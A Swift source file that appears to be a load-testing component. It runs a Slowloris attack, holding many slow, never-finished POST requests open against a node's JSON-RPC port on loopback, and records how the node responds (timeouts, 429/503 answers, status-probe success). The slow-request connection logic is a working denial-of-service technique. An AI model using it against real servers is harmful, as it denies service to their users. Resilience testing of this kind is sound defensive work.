import Foundation
import NIOCore
import NIOPosix
import Synchronization

/// Slowloris clients against one node's JSON-RPC port. Each of `connections` slots connects from one of `sources`
/// (loopback addresses standing for attacking machines), sends a request head announcing a 1 MiB body, then one
/// body byte per second; when the node closes the connection (a refusal or a timeout) the slot reconnects
/// `reconnectDelaySeconds` later, until `stop()`. It counts what the node answered (408, 429, 503) so the runner can report it.
final class SlowlorisAttack: Sendable {
    /// What the node did to the attack.
    struct Summary: Sendable, CustomStringConvertible {
        var connected = 0
        var closedByNode = 0
        var answers: [Int: Int] = [:]
        var description: String {
            "connected \(connected)×, closed by the node \(closedByNode)×, answers "
                + (answers.isEmpty ? "none" : answers.sorted { $0.key < $1.key }.map { "\($0.key)×\($0.value)" }.joined(separator: " "))
        }
    }

    let port: Int
    let sources: [String]
    let connections: Int
    private let group = MultiThreadedEventLoopGroup(numberOfThreads: 1)
    private let summary = Mutex(Summary())
    private let isStopped = Atomic<Bool>(false)
    private let open = Mutex<[ObjectIdentifier: any Channel]>([:])

    /// How long a slot waits before reconnecting once the node closed it, s. slowloris.py re-creates its closed
    /// sockets every 15 s; reconnecting in a tight loop would make this a connection flood, a different attack
    /// (and one that on a shared 2-core machine mostly measures the attacker's own CPU).
    static let reconnectDelaySeconds: Int64 = 10

    /// The request head every slot sends; its body never comes at more than a byte a second.
    static let head = "POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 1048576\r\n\r\n"

    init(port: Int, sources: [String], connections: Int) {
        self.port = port
        self.sources = sources
        self.connections = connections
    }

    /// Opens every slot.
    func start() {
        for slot in 0..<connections { connect(slot: slot) }
    }

    /// Stops reconnecting, closes every connection and returns what happened.
    func stop() async -> Summary {
        isStopped.store(true, ordering: .relaxed)
        for channel in open.withLock({ Array($0.values) }) { try? await channel.close() }
        try? await group.shutdownGracefully()
        return summary.withLock { $0 }
    }

    /// One `status` call on a fresh connection from 127.0.0.1 (what a monitoring check or a new client sees, unlike
    /// a pooled keep-alive connection that was opened before the attack): `true` when HTTP 200 came back within
    /// `timeoutSeconds`.
    static func probeStatus(port: Int, timeoutSeconds: Int) async -> Bool {
        await withCheckedContinuation { (c: CheckedContinuation<Bool, Never>) in
            DispatchQueue.global().async {
                guard let fd = Fuzzer.connectLoopback(port: port, receiveTimeout: timeval(tv_sec: timeoutSeconds, tv_usec: 0)) else {
                    c.resume(returning: false)
                    return
                }
                defer { close(fd) }
                let body = #"{"jsonrpc":"2.0","id":1,"method":"status"}"#
                let request = Array("POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: \(body.utf8.count)\r\n\r\n\(body)".utf8)
                _ = request.withUnsafeBytes { send(fd, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
                var buffer = [UInt8](repeating: 0, count: 64)
                var got = 0
                while got < 12 {
                    let n = buffer[got...].withUnsafeMutableBytes { recv(fd, $0.baseAddress, $0.count, 0) }
                    if n <= 0 { break }
                    got += n
                }
                c.resume(returning: got >= 12 && String(decoding: buffer[0..<12], as: UTF8.self) == "HTTP/1.1 200")
            }
        }
    }

    private func connect(slot: Int) {
        guard !isStopped.load(ordering: .relaxed) else { return }
        let source = sources[slot % sources.count]
        let record: @Sendable (Int) -> Void = { code in self.summary.withLock { $0.answers[code, default: 0] += 1 } }
        let bootstrap = ClientBootstrap(group: group)
            .connectTimeout(.seconds(2))
            .channelInitializer { channel in
                channel.eventLoop.makeCompletedFuture {
                    try channel.pipeline.syncOperations.addHandler(StatusLineCounter(record: record))
                }
            }
        let target: SocketAddress
        let from: SocketAddress
        do {
            target = try SocketAddress(ipAddress: "127.0.0.1", port: port)
            from = try SocketAddress(ipAddress: source, port: 0)
        } catch { return }
        bootstrap.bind(to: from).connect(to: target).whenComplete { result in
            switch result {
            case let .success(channel):
                self.attach(channel, slot: slot)
            case .failure:
                self.reconnectLater(slot: slot)
            }
        }
    }

    private func attach(_ channel: any Channel, slot: Int) {
        let id = ObjectIdentifier(channel)
        open.withLock { $0[id] = channel }
        summary.withLock { $0.connected += 1 }
        channel.writeAndFlush(channel.allocator.buffer(string: Self.head), promise: nil)
        let trickle = channel.eventLoop.scheduleRepeatedTask(initialDelay: .seconds(1), delay: .seconds(1)) { _ in
            channel.writeAndFlush(channel.allocator.buffer(string: " "), promise: nil)
        }
        channel.closeFuture.whenComplete { _ in
            trickle.cancel()
            self.open.withLock { $0[id] = nil }
            if !self.isStopped.load(ordering: .relaxed) { self.summary.withLock { $0.closedByNode += 1 } }
            self.reconnectLater(slot: slot)
        }
    }

    private func reconnectLater(slot: Int) {
        guard !isStopped.load(ordering: .relaxed) else { return }
        group.next().scheduleTask(in: .seconds(Self.reconnectDelaySeconds)) { self.connect(slot: slot) }
    }
}

/// Counts the status code of the first answer on an attack connection (e.g. 408, 429).
private final class StatusLineCounter: ChannelInboundHandler {
    typealias InboundIn = ByteBuffer
    private let record: @Sendable (Int) -> Void
    private var isCounted = false

    init(record: @escaping @Sendable (Int) -> Void) { self.record = record }

    func channelRead(context: ChannelHandlerContext, data: NIOAny) {
        guard !isCounted else { return }
        isCounted = true
        let buffer = unwrapInboundIn(data)
        // "HTTP/1.1 408 …": the code is bytes 9..<12.
        if let line = buffer.getString(at: buffer.readerIndex, length: min(12, buffer.readableBytes)), line.count == 12,
           let code = Int(line.dropFirst(9)) {
            record(code)
        }
    }
}
